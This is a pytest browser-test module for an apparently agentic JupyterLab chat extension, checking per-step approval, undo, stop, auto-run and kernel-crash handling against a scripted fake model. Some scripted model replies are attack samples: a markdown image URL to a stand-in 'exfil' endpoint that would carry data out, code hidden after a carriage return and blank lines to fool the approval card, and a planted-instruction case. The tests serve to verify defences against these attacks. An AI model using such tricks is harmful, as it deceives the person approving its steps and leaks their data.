"""Agent mode in a real JupyterLab (issue 13): approved steps on a real notebook and kernel.

The model is the fake OpenAI-compatible server, scripted step by step; each test checks
what happened to the notebook and the kernel, and what reached the model, never wording.
Screenshots land in ``test-output/<test name>/``.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from tests.fixtures.agent_steps import (
    STEP,
    agent_mode,
    ask,
    execution_count,
    multi_step_fix,
    outputs_text,
    planted_instruction,
    statuses_are,
    stop_running_cell,
    tool_results,
    undo_after_reload,
    waiting,
)
from tests.fixtures.browser import PANEL, WIDGET, LabPage, open_panel, wait_answer, wait_idle
from tests.fixtures.fake_llm import FakeLLM, Reply, ToolCall

pytestmark = [pytest.mark.browser, pytest.mark.slow, pytest.mark.timeout(240)]
# One kept JupyterLab page for the module's lab_page tests (tests/fixtures/lab_reuse.py).
REUSE_LAB_PAGE = True
# One JupyterLab, fake model and kept page for the modules of this SHARED_LAB
# (tests/fixtures/shared_labs.py): a lab start and a page load fewer each.
SHARED_LAB = "agent"
# Notebook 7's pages come from the group's JupyterLab too (its notebook server extension):
# test_widget_notebook_browser.py's Notebook 7 test.
JUPYTER_EXTRA_ARGS = ["--JupyterNotebookApp.expose_app_in_browser=True"]


def test_multi_step_fix_needs_approval_at_each_step_and_undo_reverts(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """run -> error -> edit -> run, each approved; Undo reverts the turn.

    That the steps stay in the thread after a reload, shown with their results, is
    checked on reloads other tests make anyway (this one's own was a page load more):
    an edit's diff and the conversation's Agent mode in undo_after_reload
    (test_undo_survives_a_reload_and_is_recorded_in_the_thread), a run's card with its
    result in test_auto_run_is_a_per_thread_choice."""
    multi_step_fix(lab_page, page, scripted_llm, screenshot)


def test_undo_survives_a_reload_and_is_recorded_in_the_thread(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    undo_after_reload(lab_page, page, scripted_llm, screenshot)


def test_undo_keeps_no_secret_an_edit_replaced(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """An edit of a cell that held a secret: its old source is stored nowhere, so that
    edit is not undoable (its card says why), before and after a reload."""
    secret = "q8Zr2LmX7TnVb4Ye9KsPa1"
    lab_page.server.write_notebook("undo_secret.ipynb", [f"api_key = '{secret}'", "print(1)"])
    lab_page.open("undo_secret.ipynb")
    open_panel(page)
    agent_mode(page)
    fixed = "import os\napi_key = os.environ['API_KEY']"
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("edit_cell", {"index": 0, "new_source": fixed})]),
        Reply("The key comes from the environment now."),
    )
    ask(page, "read the key from the environment")
    waiting(page, "edit_cell").locator(".jck-step-approve").click()
    wait_answer(page, "The key comes from the environment now.")
    wait_idle(page)
    assert lab_page.cell_sources()[0] == fixed
    card = page.locator(f'{STEP}[data-step="edit_cell"]')
    card.locator(".jck-step-no-undo").wait_for(state="visible")
    undo = page.locator(f"{PANEL} .jck-agent-undo")
    assert undo.is_hidden()
    # The conversation store holds no copy of the secret (SQLite file and its WAL).
    store = Path(lab_page.server.env["JUPYTER_DATA_DIR"]) / "jupyter_chatkit"
    assert not [f.name for f in store.iterdir() if secret.encode() in f.read_bytes()]
    lab_page.notebook_js("await nb.context.save();")

    undo = reopen_one(lab_page, page)
    card = page.locator(f'{STEP}[data-step="edit_cell"]')
    card.locator(".jck-step-no-undo").wait_for(state="visible", timeout=30_000)
    assert undo.is_hidden()
    assert lab_page.cell_sources()[0] == fixed
    screenshot(page, "secret-edit-not-undoable")


def reopen_one(lab: LabPage, page: Any) -> Any:
    """Reload the page; the panel shows the notebook's conversation with its one step."""
    lab.reload()
    lab.wait_for_kernel_idle()
    open_panel(page)
    page.locator(STEP).first.wait_for(state="visible", timeout=30_000)
    return page.locator(f"{PANEL} .jck-agent-undo")


def test_planted_instruction_in_an_output_is_data_and_skip_is_honoured(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    planted_instruction(lab_page, page, scripted_llm, screenshot)


def test_stop_interrupts_a_running_cell_and_ends_the_turn(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    stop_running_cell(lab_page, page, scripted_llm, screenshot)


def test_chat_widget_inserts_and_runs_with_approval_and_undoes_right_after_a_reload(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """The %chat widget in JupyterLab: the same approved steps, through the lab bridge.
    After a reload its Undo reverts the stored insert, though no step has run in the page
    (the agent's code loads on demand; Undo waits for it).

    (One notebook, kernel and widget for what were two tests, each with its own.)
    """
    lab_page.server.write_notebook("widget.ipynb", ["%load_ext jupyter_chatkit\n%chat", "x = 41"])
    lab_page.open("widget.ipynb")
    lab_page.run_all()
    page.locator(f"{WIDGET} .jck-input").wait_for(state="visible", timeout=60_000)
    page.locator(f"{WIDGET} .jck-mode-agent").click()
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("insert_cell", {"source": "print(x + 1)", "after": 1})]),
        Reply(tool_calls=[ToolCall("run_cell", {"index": 2})]),
        Reply("Cell 3 prints 42."),
    )
    box = page.locator(f"{WIDGET} .jck-input")
    box.fill("print x plus one in a new cell")
    box.press("Enter")
    step = f"{WIDGET} .jck-step"
    card = page.locator(f'{step}[data-step="insert_cell"]')
    card.locator(".jck-step-approve").wait_for(state="visible", timeout=60_000)
    assert len(lab_page.cell_sources()) == 2
    card.locator(".jck-step-approve").click()
    card = page.locator(f'{step}[data-step="run_cell"]')
    card.locator(".jck-step-approve").wait_for(state="visible", timeout=60_000)
    assert lab_page.cell_sources()[2] == "print(x + 1)"
    assert "42" not in outputs_text(lab_page, 2)
    card.locator(".jck-step-approve").click()
    page.locator(f"{WIDGET} .jck-msg.jck-assistant", has_text="Cell 3 prints 42.").wait_for(
        timeout=60_000
    )
    assert "42" in outputs_text(lab_page, 2)
    assert tool_results(scripted_llm, 2)[-1]["status"] == "ok"
    screenshot(page, "widget")

    # Reloaded: the widget's Undo reverts the stored insert (the run is not undone).
    lab_page.notebook_js("await nb.context.save();")
    lab_page.reload()
    undo = page.locator(f"{WIDGET} .jck-agent-undo")
    undo.wait_for(state="visible", timeout=60_000)
    undo.click()
    page.wait_for_function(
        "() => [...window.jupyterapp.shell.widgets('main')].find(w => w.sessionContext)"
        ".content.widgets.length === 2",
        timeout=30_000,
    )
    assert lab_page.cell_sources()[1] == "x = 41"
    page.locator(f'{step}[data-step="insert_cell"][data-status="undone"]').wait_for()
    screenshot(page, "widget-undone-after-reload")


def test_auto_run_is_a_per_thread_choice(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """Runs ask for approval unless the person turns Auto-run on for the conversation."""
    lab_page.server.write_notebook("auto.ipynb", ["print(6 * 7)"])
    lab_page.open("auto.ipynb")
    open_panel(page)
    agent_mode(page)
    page.locator(f"{PANEL} .jck-auto-run").check()
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]), Reply("It printed 42.")
    )
    ask(page, "run cell 1")
    wait_answer(page, "It printed 42.")
    # No card waited: the run went through, and the model read its output.
    assert "42" in outputs_text(lab_page, 0)
    assert tool_results(scripted_llm, 1)[-1]["status"] == "ok"
    # The choice belongs to this conversation: kept after a reload, off in a new one.
    lab_page.reload()
    open_panel(page)
    page.locator(STEP).first.wait_for(state="visible", timeout=30_000)
    # The run's card is shown with its result.
    statuses_are(page, "run_cell", "ok")
    assert page.locator(f"{PANEL} .jck-auto-run").is_checked()
    page.locator(f"{PANEL} [aria-label='New conversation']").click()
    # The mode is per conversation too: a new one starts in Ask, without Auto-run.
    assert page.locator(f"{PANEL} .jck-mode-ask").get_attribute("aria-pressed") == "true"
    agent_mode(page)
    assert not page.locator(f"{PANEL} .jck-auto-run").is_checked()
    scripted_llm.script(Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]), Reply("Skipped."))
    ask(page, "run cell 1 again")
    waiting(page, "run_cell").locator(".jck-step-skip").click()
    wait_answer(page, "Skipped.")
    assert tool_results(scripted_llm, 3)[-1]["status"] == "skipped"


def test_stop_while_the_agents_run_waits_for_the_persons_cell_interrupts_nothing(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """Stop while the approved run waits for the person's own running cell: the kernel is
    not interrupted (their cell finishes), the agent's cell never runs, the turn ends."""
    # The person's cell runs until the test lets it finish (no race with a sleep's length).
    go = lab_page.server.root_dir / "queue-go"
    mine = (
        "import os, time\nprint('mine started', flush=True)\n"
        f"while not os.path.exists({str(go)!r}):\n    time.sleep(0.05)\nprint('mine finished')"
    )
    lab_page.server.write_notebook("queue.ipynb", [mine, "print('agent ran')"])
    lab_page.open("queue.ipynb")
    open_panel(page)
    agent_mode(page)
    scripted_llm.script(Reply(tool_calls=[ToolCall("run_cell", {"index": 1})]))
    ask(page, "run cell 2")
    card = waiting(page, "run_cell")
    # The person runs their own slow cell; the agent's run is approved while it runs.
    lab_page.notebook_js(
        "nb.content.activeCellIndex = 0; nb.content.deselectAll();"
        " void app.commands.execute('notebook:run-cell');"
    )
    page.locator(".jp-OutputArea-output", has_text="mine started").wait_for(timeout=60_000)
    card.locator(".jck-step-approve").click()
    # The card says the run waits for the person's cell (not just that it works).
    card.locator(".jck-step-waiting").wait_for()
    screenshot(page, "run-waits-for-cell")
    page.locator(f"{PANEL} .jck-send.jck-stop").click()
    wait_idle(page)
    page.wait_for_function(
        "(sel) => document.querySelector(sel)?.getAttribute('data-status') === 'stopped'",
        arg=f'{STEP}[data-step="run_cell"]',
    )
    go.write_text("")
    page.locator(".jp-OutputArea-output", has_text="mine finished").wait_for(timeout=60_000)
    lab_page.wait_for_kernel_idle()
    screenshot(page, "stopped-before-run")
    # The person's cell ran to its end; the agent's cell was never run.
    assert "KeyboardInterrupt" not in outputs_text(lab_page, 0)
    assert "agent ran" not in outputs_text(lab_page, 1)
    assert execution_count(lab_page, 1) is None
    scripted_llm.script(Reply("Nothing ran."))
    ask(page, "what happened?")
    wait_answer(page, "Nothing ran.")
    stopped = tool_results(scripted_llm, 1)[-1]
    assert stopped["status"] == "stopped" and not stopped.get("interrupted")


def test_steps_act_on_the_turns_notebook_and_never_on_a_changed_cell(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """A card names its notebook; approving it after another notebook got focus acts on
    the turn's notebook; a cell edited while its card waited is left alone."""
    lab_page.server.write_notebook("first.ipynb", ["print('from first')"])
    lab_page.server.write_notebook("second.ipynb", ["print('from second')"])
    lab_page.open("first.ipynb")
    open_panel(page)
    agent_mode(page)
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]),
        Reply(tool_calls=[ToolCall("edit_cell", {"index": 0, "new_source": "print('agent')"})]),
        Reply("Done."),
    )
    ask(page, "run cell 1")
    card = waiting(page, "run_cell")
    assert "first.ipynb" in card.inner_text()
    # Another notebook gets the focus while the card waits.
    lab_page.command("docmanager:open", {"path": "second.ipynb"})
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget?.context?.path === 'second.ipynb'"
    )
    card.locator(".jck-step-approve").click()
    card = waiting(page, "edit_cell")
    (ran,) = tool_results(scripted_llm, 1)
    assert ran["status"] == "ok" and ran["notebook"] == "first.ipynb"
    assert "from first" in json.dumps(ran["cell"]["outputs"])
    first = "[...window.jupyterapp.shell.widgets('main')].find(w => w.context?.path === arg)"
    second_outputs = page.evaluate(
        f"(arg) => JSON.stringify({first}.content.widgets[0].model.outputs.toJSON())",
        "second.ipynb",
    )
    assert "from second" not in second_outputs
    # Back to the first notebook (else the sidebar follows the second one after the turn).
    lab_page.command("docmanager:open", {"path": "first.ipynb"})
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget?.context?.path === 'first.ipynb'"
    )
    # The person edits the cell while the edit's card waits: the edit is not applied.
    page.evaluate(
        f"(arg) => {first}.content.widgets[0].model.sharedModel.setSource('print(\"mine\")')",
        "first.ipynb",
    )
    card.locator(".jck-step-approve").click()
    wait_answer(page, "Done.")
    (edit,) = tool_results(scripted_llm, 2)[-1:]
    assert edit["status"] == "failed" and "changed" in edit["error"]
    source = page.evaluate(
        f"(arg) => {first}.content.widgets[0].model.sharedModel.getSource()", "first.ipynb"
    )
    assert source == 'print("mine")'
    screenshot(page, "changed-cell")


def test_a_waiting_card_names_the_notebook_by_its_new_name_after_a_rename(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """The notebook is renamed while a step's card waits: the card names its new path
    (before: still the old one), and the approved step runs in it."""
    lab_page.server.write_notebook("draft.ipynb", ["print('renamed run')"])
    lab_page.open("draft.ipynb")
    open_panel(page)
    agent_mode(page)
    scripted_llm.script(Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]), Reply("Ran."))
    ask(page, "run cell 1")
    card = waiting(page, "run_cell")
    where = card.locator(".jck-step-notebook code")
    assert where.inner_text() == "draft.ipynb"
    page.evaluate(
        "() => window.jupyterapp.serviceManager.contents.rename('draft.ipynb', 'report.ipynb')"
    )
    page.wait_for_function(
        "() => window.jupyterapp.shell.currentWidget?.context?.path === 'report.ipynb'"
    )
    page.wait_for_function(
        "(sel) => document.querySelector(sel)?.textContent === 'report.ipynb'",
        arg=f'{STEP}[data-step="run_cell"] .jck-step-notebook code',
    )
    assert card.get_attribute("data-status") == "waiting"
    screenshot(page, "renamed-card")
    card.locator(".jck-step-approve").click()
    wait_answer(page, "Ran.")
    (ran,) = tool_results(scripted_llm, 1)
    assert ran["status"] == "ok" and ran["notebook"] == "report.ipynb", ran
    assert "renamed run" in json.dumps(ran["cell"]["outputs"])


def test_a_cards_code_is_drawn_as_python_reads_it(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """A carriage return alone is a new line to Python but drawn as nothing: an insert's
    card and an edit's diff showed ``y = 1  # note`` with the code after it as part of
    the comment, and that code ran once approved. Now it is drawn on a line of its own."""
    lab_page.server.write_notebook("drawn.ipynb", ["x = 1"])
    lab_page.open("drawn.ipynb")
    open_panel(page)
    agent_mode(page)
    # And a tail far below the first lines, past a scroll box's fold.
    hidden = "y = 1  # note\rprint('PWNED')" + "\n" * 40 + "import os  # the last line"
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("insert_cell", {"source": hidden})]),
        Reply(tool_calls=[ToolCall("edit_cell", {"index": 0, "new_source": hidden})]),
        Reply("Both skipped."),
    )
    ask(page, "tidy up")
    for name in ("insert_cell", "edit_cell"):
        card = waiting(page, name)
        tops = card.evaluate(
            "(card) => { const out = {}; const pre = card.querySelector('pre');"
            " const walker = document.createTreeWalker(pre, NodeFilter.SHOW_TEXT);"
            " for (let n = walker.nextNode(); n; n = walker.nextNode()) {"
            "  for (const word of ['note', 'print']) { const at = n.nodeValue.indexOf(word);"
            "   if (at < 0) continue; const r = document.createRange();"
            "   r.setStart(n, at); r.setEnd(n, at + word.length);"
            "   out[word] = r.getBoundingClientRect(); } }"
            " return {note: out.note.bottom, print: out.print.top}; }"
        )
        # The code after the carriage return starts below the commented line.
        assert tops["print"] >= tops["note"], tops
        # Nothing of it is cut off in a box of its own: the card shows it all.
        clipped = card.evaluate(
            "(card) => { const pre = card.querySelector('pre');"
            " return pre.scrollHeight - pre.clientHeight; }"
        )
        assert clipped <= 1, clipped
        screenshot(page, f"{name}-carriage-return")
        card.locator(".jck-step-skip").click()
    wait_answer(page, "Both skipped.")
    assert lab_page.cell_sources() == ["x = 1"]


def test_an_approved_run_never_runs_a_cell_changed_while_it_waited(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """The approved run waits for the person's running cell; meanwhile the cell is changed
    (a collaborator, the person): what was approved is not what would run, so nothing runs
    and the model reads why. The check before the wait was the only one."""
    go = lab_page.server.root_dir / "swap-go"
    mine = (
        "import os, time\nprint('mine started', flush=True)\n"
        f"while not os.path.exists({str(go)!r}):\n    time.sleep(0.05)\nprint('mine finished')"
    )
    lab_page.server.write_notebook("swap.ipynb", [mine, "print('approved')"])
    lab_page.open("swap.ipynb")
    open_panel(page)
    agent_mode(page)
    scripted_llm.script(Reply(tool_calls=[ToolCall("run_cell", {"index": 1})]), Reply("Done."))
    ask(page, "run cell 2")
    card = waiting(page, "run_cell")
    lab_page.notebook_js(
        "nb.content.activeCellIndex = 0; nb.content.deselectAll();"
        " void app.commands.execute('notebook:run-cell');"
    )
    page.locator(".jp-OutputArea-output", has_text="mine started").wait_for(timeout=60_000)
    card.locator(".jck-step-approve").click()
    card.locator(".jck-step-waiting").wait_for()
    lab_page.notebook_js(
        "nb.content.widgets[1].model.sharedModel.setSource(\"print('swapped in')\");"
    )
    go.write_text("")
    wait_answer(page, "Done.")
    lab_page.wait_for_kernel_idle()
    screenshot(page, "changed-while-waiting")
    assert "swapped in" not in outputs_text(lab_page, 1)
    assert execution_count(lab_page, 1) is None
    result = tool_results(scripted_llm, 1)[-1]
    assert result["status"] == "failed"


def test_an_auto_run_step_resumed_after_a_reload_is_not_run_again(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """A reload while an auto-run step's cell runs: the new page finds the step still
    waiting for its result. The page that ran it told the server it began, so the new
    page's card says the step ran and its result was lost (no Approve all: Auto-run was
    that page's), and nothing runs a second time without a click: reading the cell's
    output tells the model the step ran with an unknown result."""
    go = lab_page.server.root_dir / "resume-go"
    runs = lab_page.server.root_dir / "resume-runs.txt"
    cell = (
        "import os, time\n"
        f"open({str(runs)!r}, 'a').write('run\\n')\nprint('agent started', flush=True)\n"
        f"while not os.path.exists({str(go)!r}):\n    time.sleep(0.05)\nprint('agent done')"
    )
    lab_page.server.write_notebook("resume.ipynb", [cell])
    lab_page.open("resume.ipynb")
    open_panel(page)
    agent_mode(page)
    page.locator(f"{PANEL} .jck-auto-run").check()
    scripted_llm.script(Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]), Reply("Ran."))
    ask(page, "run cell 1")
    page.locator(".jp-OutputArea-output", has_text="agent started").wait_for(timeout=60_000)
    # Reloaded while the cell runs: its result is never sent by this page.
    page.reload()
    page.wait_for_function("() => !!window.jupyterapp", timeout=60_000)
    page.evaluate("() => window.jupyterapp.restored")
    go.write_text("")
    lab_page.wait_for_kernel_idle()
    open_panel(page)
    # The resumed step either asks (its card waits) or runs on and the model answers.
    page.wait_for_function(
        "(panel) => !!document.querySelector(panel + ' .jck-step-read')"
        " || !!document.querySelector(panel + ' .jck-step-approve')"
        " || [...document.querySelectorAll(panel + ' .jck-msg.jck-assistant')]"
        ".some(m => m.textContent.includes('Ran.'))",
        arg=PANEL,
        timeout=60_000,
    )
    card = page.locator(f'{STEP}[data-step="run_cell"]').first
    card.scroll_into_view_if_needed()
    screenshot(page, "resumed-step-begun")
    card.locator(".jck-step-read").wait_for(state="visible")
    assert runs.read_text() == "run\n"
    # It says the step ran, and asks one by one: nothing approves it, nor further steps.
    assert card.get_attribute("data-begun") == "true"
    assert card.locator(".jck-step-begun").count() == 1
    # Where it may have begun, every place (not only "another tab"): a reload, another
    # window or browser, or the other chat of this very page.
    begun = card.locator(".jck-step-begun").inner_text()
    assert "window" in begun and "same page" in begun, begun
    assert card.locator(".jck-step-approve-all, .jck-step-approve").count() == 0
    # It shows the cell as loaded (asked while the reloaded notebook was still being read,
    # it showed an empty cell).
    assert "agent started" in card.locator(".jck-step-code").inner_text()
    card.locator(".jck-step-read").click()
    wait_answer(page, "Ran.")
    screenshot(page, "resumed-step-result-unknown")
    assert runs.read_text() == "run\n"
    result = tool_results(scripted_llm, 1)[-1]
    assert result["status"] == "unknown"
    # With the cell as the notebook shows it now (read, not run).
    assert result["cell"]["index"] == 0


def test_an_agents_markdown_cell_loads_no_image_until_the_person_renders_it(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """The chat loads no outside image a model names (it could carry notebook data out in
    its URL); a markdown cell the agent inserted or edited was rendered at once, and its
    image fetched. Now such a cell stays as source until the person renders it."""
    lab_page.server.write_notebook("md.ipynb", ["x = 1"])
    lab_page.open("md.ipynb")
    lab_page.notebook_js(
        "nb.content.model.sharedModel.insertCell(1, {cell_type: 'markdown', source: '# Notes'});"
    )
    open_panel(page)
    agent_mode(page)
    fetched: list[str] = []
    page.on("request", lambda r: fetched.append(r.url) if "exfil" in r.url else None)
    image = "![chart](http://127.0.0.1:9/exfil?d=rows-of-data)"
    scripted_llm.script(
        Reply(
            tool_calls=[
                ToolCall("insert_cell", {"source": image, "cell_type": "markdown", "after": 1})
            ]
        ),
        Reply(tool_calls=[ToolCall("edit_cell", {"index": 1, "new_source": f"# Notes\n{image}"})]),
        Reply("Done."),
    )
    ask(page, "add a chart")
    waiting(page, "insert_cell").locator(".jck-step-approve").click()
    waiting(page, "edit_cell").locator(".jck-step-approve").click()
    wait_answer(page, "Done.")
    # Both cells hold the image's source; neither is rendered, nothing was fetched.
    assert lab_page.cell_sources() == ["x = 1", f"# Notes\n{image}", image]
    rendered = lab_page.notebook_js(
        "return nb.content.widgets.filter(w => w.model.type === 'markdown').map(w => w.rendered);"
    )
    screenshot(page, "markdown-unrendered")
    assert rendered == [False, False]
    assert page.locator(".jp-MarkdownCell img").count() == 0
    assert fetched == []


def test_a_run_that_kills_the_kernel_says_so_to_the_model(
    lab_page: LabPage, page: Any, screenshot: Any, scripted_llm: FakeLLM
) -> None:
    """A cell that kills its kernel (``os._exit``, as a segfault or the OOM killer does)
    gets no output, no execution count and no reply: it looked like a cell that never
    ran. The agent's run and the cells the model reads next (the server restarted the
    kernel) say it died while that cell ran; the cell after it, never run, says nothing."""
    lab_page.server.write_notebook("crash.ipynb", ["import os\nos._exit(1)", "x = 1"])
    lab_page.open("crash.ipynb")
    open_panel(page)
    agent_mode(page)
    page.locator(f"{PANEL} .jck-auto-run").check()
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]),
        Reply(tool_calls=[ToolCall("get_notebook_cells", {})]),
        Reply("The kernel died."),
    )
    ask(page, "run cell 1")
    wait_answer(page, "The kernel died.")
    screenshot(page, "kernel-died")
    (ran,) = tool_results(scripted_llm, 1)
    assert ran["status"] == "error"
    assert [o.get("ename") for o in ran["cell"]["outputs"]] == ["KernelDied"], ran
    cells = tool_results(scripted_llm, 2)[-1]["cells"]
    assert [o.get("ename") for o in cells[0]["outputs"]] == ["KernelDied"], cells
    assert cells[1]["outputs"] == []
    # The person sees it too: under the cell (no output of its own) what happened and the
    # same "Fix this error" button as under an error; the cell never run has none. Page
    # only: the notebook's outputs stay empty (nothing is saved of it).
    code_cells = page.locator(".jp-Notebook .jp-CodeCell")
    crashed = code_cells.nth(0)
    crashed.locator(".jp-chatkit-ask-error").wait_for()
    crashed.scroll_into_view_if_needed()
    screenshot(page, "kernel-died-fix-button")
    assert code_cells.nth(1).locator(".jp-chatkit-ask-error").count() == 0
    assert lab_page.notebook_js("return nb.content.widgets[0].model.outputs.length;") == 0
    # It asks as the menu item and /fix do; run again, the cell is what it shows now.
    page.keyboard.press("Escape")  # JupyterLab's "Kernel Restarting" dialog
    scripted_llm.script(Reply("Run the cells it needs again."))
    crashed.locator(".jp-chatkit-ask-error").click()
    wait_answer(page, "Run the cells it needs again.")
    assert "KernelDied" in json.dumps(scripted_llm.requests[-1]["messages"])
    # Closed and opened again (as a reload does: new cell models, the same server
    # session; nothing saved of it), it still says so, to the person and to the model.
    lab_page.notebook_js("await nb.context.save(); nb.dispose();")
    lab_page.command("docmanager:open", {"path": "crash.ipynb"})
    lab_page.wait_for_kernel_idle()
    crashed.locator(".jp-chatkit-ask-error").wait_for()
    screenshot(page, "kernel-died-reopened")
    assert lab_page.notebook_js("return nb.content.widgets[0].model.outputs.length;") == 0
    scripted_llm.script(Reply("It died before the reload."))
    crashed.locator(".jp-chatkit-ask-error").click()
    wait_answer(page, "It died before the reload.")
    assert "KernelDied" in json.dumps(scripted_llm.requests[-1]["messages"])
    lab_page.notebook_js(
        "nb.content.widgets[0].model.sharedModel.setSource('y = 2');"
        " nb.content.activeCellIndex = 0; nb.content.activate();"
        " await window.jupyterapp.commands.execute('notebook:run-cell');"
    )
    crashed.locator(".jp-chatkit-ask-error").wait_for(state="detached")


def test_a_traceback_a_thread_shows_is_not_the_run_cells_error(
    lab_page: LabPage, page: Any, scripted_llm: FakeLLM
) -> None:
    """A worker thread shows a traceback while the agent's cell runs (its output holds
    it), but the cell finished without error: run_cell says ok with a note, and a cell
    that raises is still an error (before: both 'error')."""
    thread = (
        "import threading\n"
        "def work():\n"
        "    try:\n"
        "        {}['k']\n"
        "    except KeyError:\n"
        "        get_ipython().showtraceback()\n"
        "t = threading.Thread(target=work)\nt.start()\nt.join()"
    )
    lab_page.server.write_notebook("background.ipynb", [thread, "1 / 0"])
    lab_page.open("background.ipynb")
    open_panel(page)
    agent_mode(page)
    page.locator(f"{PANEL} .jck-auto-run").check()
    scripted_llm.script(
        Reply(tool_calls=[ToolCall("run_cell", {"index": 0})]),
        Reply(tool_calls=[ToolCall("run_cell", {"index": 1})]),
        Reply("Ran both."),
    )
    ask(page, "run both cells")
    wait_answer(page, "Ran both.")
    (background,) = tool_results(scripted_llm, 1)
    assert [o.get("ename") for o in background["cell"]["outputs"]] == ["KeyError"], background
    assert background["status"] == "ok" and background["note"], background
    # The output itself says it is not the cell's error, as a saved notebook's readers say.
    assert background["cell"]["outputs"][0]["note"], background
    own = tool_results(scripted_llm, 2)[-1]
    assert own["status"] == "error" and "note" not in own, own
